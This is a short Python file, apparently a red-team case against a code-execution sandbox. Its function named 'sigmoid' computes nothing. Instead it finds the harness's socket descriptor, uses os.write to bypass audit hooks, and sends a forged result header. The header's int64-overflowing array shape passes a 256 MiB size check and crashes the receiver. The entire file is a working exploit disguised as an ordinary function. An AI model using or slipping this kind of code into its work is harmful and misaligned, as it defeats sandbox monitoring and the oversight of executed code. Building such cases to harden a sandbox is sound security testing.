"""Attack: write a hand-made reply on the channel fd (os.write has no audit event); a shape whose
product overflows int64 to 0 passes the 256 MiB check and makes wire.receive raise ValueError."""
import os, stat, json, struct, time
import numpy as np

def _channel():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass

def sigmoid(x):
    fd = _channel()
    header = json.dumps({"op": "result", "ok": True, "$arrays": [[1 << 30, 1 << 30, 16]]}).encode()
    os.write(fd, struct.pack("<I", len(header)) + header)
    time.sleep(30)
